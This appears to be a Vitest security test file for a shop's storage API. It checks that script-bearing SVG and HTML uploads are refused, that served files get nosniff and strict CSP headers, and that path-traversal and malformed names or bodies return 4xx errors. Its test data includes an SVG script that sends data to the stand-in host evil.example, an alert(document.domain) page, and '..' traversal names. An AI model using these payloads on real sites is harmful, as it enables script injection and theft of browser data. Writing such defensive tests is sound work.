// @vitest-environment node
// Issue 23 against /storage/v1, through the real storage-js and plain HTTP: uploads are taken only
// when their bytes are media the shop shows (finding 2), storage answers are never documents of
// the shop's origin (finding 6), and bad names and bodies are 4xx answers with a clear message,
// never a 500 (finding 8). The server keeps serving throughout.
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ALLOWED_UPLOAD_TYPES } from '../../../src/features/admin/admin.validation.ts'
import { clientFor, type Client } from '../contract-testing.ts'
import { MEDIA_TYPES } from './media-types.ts'
import { confirmedUser, mediaFiles } from './storage-testing.ts'
import { startHumoBackend, type HumoBackend } from '../server.ts'

let backend: HumoBackend
let admin: Client
let dataDir: string
let media: Awaited<ReturnType<typeof mediaFiles>>

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'humo-storage-hardening-'))
  backend = await startHumoBackend({ dataDir, port: 0, quiet: true, seed: false })
  admin = await confirmedUser(backend, 'owner')
  media = await mediaFiles()
}, 60_000)

afterAll(async () => {
  await backend?.close()
  await rm(dataDir, { recursive: true, force: true })
})

const bucket = () => admin.storage.from('product_media')
const publicUrl = (path: string) => bucket().getPublicUrl(path).data.publicUrl
const adminToken = async () => (await admin.auth.getSession()).data.session!.access_token

/** A raw request to /storage/v1 as the admin. */
async function asAdmin(path: string, init: RequestInit = {}): Promise<Response> {
  return fetch(`${backend.url}/storage/v1${path}`, {
    ...init,
    headers: {
      apikey: backend.anonKey,
      Authorization: `Bearer ${await adminToken()}`,
      ...(init.headers as Record<string, string> | undefined),
    },
  })
}

async function storedMimetype(name: string): Promise<string | undefined> {
  const { rows } = await backend.db.query<{ mimetype: string }>(
    `select metadata->>'mimetype' as mimetype from storage.objects
     where bucket_id = 'product_media' and name = $1`,
    [name],
  )
  return rows[0]?.mimetype
}

const STORAGE_CSP =
  "default-src 'none'; media-src 'self'; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'"

function expectInert(response: Response): void {
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  expect(response.headers.get('content-security-policy')).toBe(STORAGE_CSP)
}

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+localStorage.length)</script></svg>'
const HTML_WITH_SCRIPT = '<!doctype html><title>x</title><script>alert(document.domain)</script>'

describe('uploads are read from their bytes (finding 2)', () => {
  it('refuses an SVG with a script, declared as SVG, and stores nothing', async () => {
    const { error } = await bucket().upload('p2/evil.svg', Buffer.from(SVG_WITH_SCRIPT), {
      contentType: 'image/svg+xml',
    })
    expect(error).toMatchObject({ status: 415, statusCode: '415' })
    expect(error!.message).toMatch(/SVG, HTML, text and other documents are refused/)
    expect(await storedMimetype('p2/evil.svg')).toBeUndefined()
    expect((await fetch(publicUrl('p2/evil.svg'))).status).toBe(400)
  })

  it.each([
    ['an SVG', SVG_WITH_SCRIPT],
    ['an HTML page', HTML_WITH_SCRIPT],
    ['an XML SVG', `<?xml version="1.0"?>${SVG_WITH_SCRIPT}`],
    ['text', 'just some words'],
    ['a PDF', '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'],
    ['an empty file', ''],
  ])('refuses %s declared as image/png, as a raw body and in a form', async (_, contents) => {
    const raw = await bucket().upload('p2/photo.png', Buffer.from(contents), {
      contentType: 'image/png',
    })
    expect(raw.error).toMatchObject({ status: 415, statusCode: '415' })
    const form = await bucket().upload(
      'p2/photo.png',
      new Blob([Buffer.from(contents)], { type: 'image/png' }),
    )
    expect(form.error).toMatchObject({ status: 415, statusCode: '415' })
    expect(await storedMimetype('p2/photo.png')).toBeUndefined()
  })

  it('refuses a GIF: the shop shows JPEG, PNG and WebP images, MP4 and WebM videos', async () => {
    const { error } = await bucket().upload('p2/anim.gif', media.gif, { contentType: 'image/gif' })
    expect(error).toMatchObject({ statusCode: '415' })
  })

  it.each([
    ['png', 'image/png'],
    ['jpeg', 'image/jpeg'],
    ['webp', 'image/webp'],
    ['mp4', 'video/mp4'],
    ['webm', 'video/webm'],
  ] as const)(
    'takes a real %s whatever type it declares, stores its sniffed type and serves it inertly',
    async (kind, mimetype) => {
      const name = `p2/real.${kind}`
      const bytes = media[kind]
      const { error } = await bucket().upload(name, bytes, { contentType: 'text/html' })
      expect(error).toBeNull()
      expect(await storedMimetype(name)).toBe(mimetype)
      const response = await fetch(publicUrl(name))
      expect(response.status).toBe(200)
      expect(response.headers.get('content-type')).toBe(mimetype)
      expect(response.headers.get('content-disposition')).toBeNull()
      expectInert(response)
      expect(Buffer.from(await response.arrayBuffer())).toEqual(bytes)
      // Ranges (video) and the authenticated download carry the same headers.
      const part = await fetch(publicUrl(name), { headers: { Range: 'bytes=0-3' } })
      expect(part.status).toBe(206)
      expectInert(part)
      const download = await asAdmin(`/object/authenticated/product_media/${name}`)
      expect(download.status).toBe(200)
      expect(download.headers.get('content-type')).toBe(mimetype)
      expectInert(download)
    },
  )

  it("refuses a name whose extension disagrees with the file's bytes", async () => {
    const { error } = await bucket().upload('p2/really-a-jpeg.png', media.jpeg, {
      contentType: 'image/png',
    })
    expect(error).toMatchObject({ status: 400, statusCode: '400' })
    expect(error!.message).toBe(
      'The file is a JPEG image but its name ends in .png; name it .jpg or .jpeg',
    )
    const none = await bucket().upload('p2/no-extension', media.png)
    expect(none.error!.message).toBe(
      'The file is a PNG image but its name has no extension; name it .png',
    )
    expect(
      (await bucket().upload('p2/really-a-jpeg.JPG', media.jpeg, { contentType: 'image/png' }))
        .error,
    ).toBeNull()
  })
})

describe('one list of what the shop shows', () => {
  it('the server, the bucket (for hosted Supabase) and the admin form agree', async () => {
    const server = MEDIA_TYPES.map((type) => type.mime).sort()
    const { rows } = await backend.db.query<{ allowed_mime_types: string[] }>(
      `select allowed_mime_types from storage.buckets where id = 'product_media'`,
    )
    expect([...rows[0]!.allowed_mime_types].sort()).toEqual(server)
    // image/jpg is a name some systems give JPEG files; the server stores them as image/jpeg.
    expect(ALLOWED_UPLOAD_TYPES.filter((type) => type !== 'image/jpg').sort()).toEqual(server)
  })
})

describe('objects stored before the check are served harmlessly (findings 2 and 6)', () => {
  // As an old upload or a seeded cover left them: a file on disk and its row.
  async function legacyObject(name: string, contents: string, mimetype: string | null) {
    const file = join(dataDir, 'storage', 'product_media', ...name.split('/'))
    await mkdir(join(file, '..'), { recursive: true })
    await writeFile(file, contents)
    if (mimetype === null) return
    await backend.db.query(
      `insert into storage.objects (bucket_id, name, metadata) values ('product_media', $1, $2)`,
      [name, JSON.stringify({ mimetype })],
    )
  }

  it.each([
    ['an SVG stored as image/svg+xml', 'old/cover.svg', SVG_WITH_SCRIPT, 'image/svg+xml'],
    ['HTML stored as text/html', 'old/page.html', HTML_WITH_SCRIPT, 'text/html'],
    ['HTML stored as text/html; charset', 'old/page2.htm', HTML_WITH_SCRIPT, 'text/html; a=b'],
    ['text stored as text/plain', 'old/notes.txt', 'words', 'text/plain'],
    ['an SVG with no row', 'old/orphan.svg', SVG_WITH_SCRIPT, null],
  ])('%s: a download of opaque bytes', async (_, name, contents, mimetype) => {
    await legacyObject(name, contents, mimetype)
    for (const response of [
      await fetch(publicUrl(name)),
      await fetch(publicUrl(name), { method: 'HEAD' }),
    ]) {
      expect(response.status).toBe(200)
      expect(response.headers.get('content-type')).toBe('application/octet-stream')
      expect(response.headers.get('content-disposition')).toBe('attachment')
      expectInert(response)
    }
  })

  it('HTML stored as image/png: an image that cannot be sniffed into a page', async () => {
    await legacyObject('old/fake.png', HTML_WITH_SCRIPT, 'image/png')
    const response = await fetch(publicUrl('old/fake.png'))
    expect(response.headers.get('content-type')).toBe('image/png')
    expectInert(response)
  })
})

describe('storage JSON answers carry the same headers (finding 6)', () => {
  it('on errors, on refusals and on success', async () => {
    const answers = [
      await fetch(`${backend.url}/storage/v1/object/public/product_media/none.png`),
      await fetch(`${backend.url}/storage/v1/object/public/product_media/%E0%A4%A`),
      await asAdmin('/object/product_media/p2/x.svg', {
        method: 'POST',
        headers: { 'Content-Type': 'image/svg+xml' },
        body: SVG_WITH_SCRIPT,
      }),
      await asAdmin('/object/product_media', {
        method: 'DELETE',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ prefixes: ['p2/missing.png'] }),
      }),
      await asAdmin('/no/such/route'),
    ]
    for (const response of answers) {
      expect(response.headers.get('content-type')).toMatch(/^application\/json/)
      expectInert(response)
    }
  })
})

describe('bad names are 400 with a clear message (finding 8)', () => {
  const longSegment = 'a'.repeat(252) + '.png' // 256 bytes
  const cases: [string, string, RegExp][] = [
    ['a path segment over 255 bytes', `p2/${longSegment}`, /longer than 255 bytes/],
    [
      'a segment over 255 bytes in UTF-8',
      `p2/${encodeURIComponent('é'.repeat(126))}.png`,
      /longer than 255 bytes/,
    ],
    ['a name over 1024 bytes', `${'abcdefgh/'.repeat(114)}x.png`, /longer than 1024 bytes/],
    ['a control character', 'p2/a%01b.png', /control characters/],
    ['a NUL', 'p2/a%00b.png', /control characters/],
    ['a DEL', 'p2/a%7Fb.png', /control characters/],
    ['a .. segment', 'p2/..%2Fx.png', /'\.' or '\.\.' path segment/],
    ['a . segment', 'p2/.%2Fx.png', /'\.' or '\.\.' path segment/],
    ['an empty segment', 'p2//x.png', /empty path segment/],
    ['a trailing slash', 'p2/x.png%2F', /empty path segment/],
    ['a backslash', 'p2/a%5Cb.png', /backslash/],
    ['invalid percent-encoding', 'p2/%E0%A4%A.png', /percent-encoded/],
    ['an encoded lone surrogate', 'p2/%ED%A0%80.png', /percent-encoded/],
  ]

  it.each(cases)('%s: upload, download, delete and public read', async (_, name, message) => {
    const attempts = [
      await asAdmin(`/object/product_media/${name}`, {
        method: 'POST',
        headers: { 'Content-Type': 'image/png' },
        body: media.png,
      }),
      await asAdmin(`/object/product_media/${name}`, {
        method: 'PUT',
        headers: { 'Content-Type': 'image/png' },
        body: media.png,
      }),
      await asAdmin(`/object/authenticated/product_media/${name}`),
      await asAdmin(`/object/product_media/${name}`, { method: 'DELETE' }),
      await fetch(`${backend.url}/storage/v1/object/public/product_media/${name}`),
    ]
    for (const response of attempts) {
      expect(response.status).toBe(400)
      const body = (await response.json()) as { statusCode: string; error: string; message: string }
      expect(body).toMatchObject({ statusCode: '400', error: 'InvalidKey' })
      expect(body.message).toMatch(message)
      expectInert(response)
    }
  })

  it('takes a segment of exactly 255 bytes', async () => {
    const name = `p2/${'b'.repeat(251)}.png`
    expect((await bucket().upload(name, media.png)).error).toBeNull()
    expect((await fetch(publicUrl(name))).status).toBe(200)
  })

  it.each([
    ['a NUL', 'bad%00bucket'],
    ['a slash', 'a%2Fb'],
    ['a dot first', '.hidden'],
    ['101 characters', 'b'.repeat(101)],
    ['a space', 'my%20bucket'],
  ])('refuses a bucket name with %s', async (_, name) => {
    for (const response of [
      await asAdmin(`/object/${name}/x.png`, { method: 'POST', body: media.png }),
      await asAdmin(`/object/${name}`, {
        method: 'DELETE',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ prefixes: ['x.png'] }),
      }),
      await fetch(`${backend.url}/storage/v1/object/public/${name}/x.png`),
    ]) {
      expect(response.status).toBe(400)
      expect(await response.json()).toMatchObject({ statusCode: '400' })
    }
  })

  it('an object and a folder of the same name conflict (409), never a 500', async () => {
    expect((await bucket().upload('p3/a.png/b.png', media.png)).error).toBeNull()
    const overFolder = await bucket().upload('p3/a.png', media.png)
    expect(overFolder.error).toMatchObject({ statusCode: '409' })
    expect((await bucket().upload('p3/c.png', media.png)).error).toBeNull()
    const insideFile = await bucket().upload('p3/c.png/d.png', media.png)
    expect(insideFile.error).toMatchObject({ statusCode: '409' })
    expect(await storedMimetype('p3/a.png')).toBeUndefined()
    expect(await storedMimetype('p3/c.png/d.png')).toBeUndefined()
  })
})

describe('bad bodies are 4xx (finding 8)', () => {
  const removeBody = (body: string) =>
    asAdmin('/object/product_media', {
      method: 'DELETE',
      headers: { 'Content-Type': 'application/json' },
      body,
    })

  it('remove: bad JSON, deep JSON, wrong shapes, bad names, huge bodies', async () => {
    const cases: [string, number, RegExp][] = [
      ['{"prefixes": [', 400, /Body must be JSON/],
      [`${'['.repeat(100_000)}${']'.repeat(100_000)}`, 400, /nested more than/],
      [
        `{"prefixes": ${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
        400,
        /nested more than|larger than/,
      ],
      ['[]', 400, /JSON object/],
      ['null', 400, /JSON object/],
      ['{"prefixes": "x.png"}', 400, /array of 1 to 1000/],
      ['{"prefixes": []}', 400, /array of 1 to 1000/],
      [JSON.stringify({ prefixes: Array(1001).fill('x.png') }), 400, /array of 1 to 1000/],
      ['{"prefixes": [1]}', 400, /array of 1 to 1000/],
      ['{"prefixes": ["a\\u0000b.png"]}', 400, /prefixes\/0: .*control characters/],
      ['{"prefixes": ["ok.png", "\\ud800.png"]}', 400, /prefixes\/1: .*not valid Unicode/],
      [JSON.stringify({ prefixes: ['x'.repeat(2000)] }), 400, /longer than/],
      [JSON.stringify({ prefixes: ['x'.repeat(2 * 1024 * 1024)] }), 413, /larger than 1 MB/],
    ]
    for (const [body, status, message] of cases) {
      const response = await removeBody(body)
      expect(response.status, body.slice(0, 40)).toBe(status)
      const answer = (await response.json()) as { statusCode: string; message: string }
      expect(answer.statusCode).toBe(String(status))
      expect(answer.message).toMatch(message)
    }
  })

  it.each([
    ['list', '/object/list/product_media'],
    ['move', '/object/move'],
    ['copy', '/object/copy'],
    ['sign', '/object/sign/product_media/x.png'],
    ['sign many', '/object/sign/product_media'],
    ['bucket', '/bucket'],
  ])('%s: bad and huge bodies are refused as such', async (_, path) => {
    const post = (body: string) =>
      asAdmin(path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body })
    const bad = await post('{"prefix": ')
    expect(bad.status).toBe(400)
    expect(await bad.json()).toMatchObject({ statusCode: '400', error: 'invalid_request' })
    const deep = await post('['.repeat(200_000))
    expect(deep.status).toBe(400)
    const huge = await post(JSON.stringify({ prefix: 'x'.repeat(2 * 1024 * 1024) }))
    expect(huge.status).toBe(413)
    // A well-formed body gets a plain "not available", not a 500.
    const fine = await post('{"prefix": "p2"}')
    expect(fine.status).toBe(400)
    expect(await fine.json()).toMatchObject({ statusCode: '404' })
  })

  it('multipart: no file, a wrong boundary, no boundary', async () => {
    const form = new FormData()
    form.set('cacheControl', '3600')
    const noFile = await asAdmin('/object/product_media/p2/form.png', {
      method: 'POST',
      body: form,
    })
    expect(noFile.status).toBe(400)
    expect(await noFile.json()).toMatchObject({ message: 'No file found in the multipart body' })
    for (const contentType of [
      'multipart/form-data; boundary=nope',
      'multipart/form-data',
      'multipart/form-data; boundary=',
    ]) {
      const response = await asAdmin('/object/product_media/p2/form.png', {
        method: 'POST',
        headers: { 'Content-Type': contentType },
        body: '--other\r\nContent-Disposition: form-data; name=""; filename="a.png"\r\n\r\nx\r\n--other--\r\n',
      })
      expect(response.status, contentType).toBe(400)
      expect(await response.json()).toMatchObject({ error: 'invalid_request' })
    }
  })

  it('an upload over 50 MB is a clean 413, for the raw body and a form', async () => {
    const big = Buffer.alloc(50 * 1024 * 1024 + 1)
    const raw = await asAdmin('/object/product_media/p2/big.mp4', {
      method: 'POST',
      headers: { 'Content-Type': 'video/mp4' },
      body: big,
    })
    expect(raw.status).toBe(413)
    expect(await raw.json()).toMatchObject({ statusCode: '413', error: 'Payload too large' })
    const form = await bucket().upload('p2/big.mp4', new Blob([big], { type: 'video/mp4' }))
    expect(form.error).toMatchObject({ status: 413, statusCode: '413' })
  })

  it('refuses a caller who may not write before reading the file, and keeps serving', async () => {
    const anon = clientFor(backend, backend.anonKey)
    const { error } = await anon.storage
      .from('product_media')
      .upload('p2/anon.png', Buffer.alloc(20 * 1024 * 1024))
    expect(error).toMatchObject({ statusCode: '403' })
    expect((await bucket().upload('p2/after-all.png', media.png)).error).toBeNull()
    expect((await fetch(publicUrl('p2/after-all.png'))).status).toBe(200)
  })
})
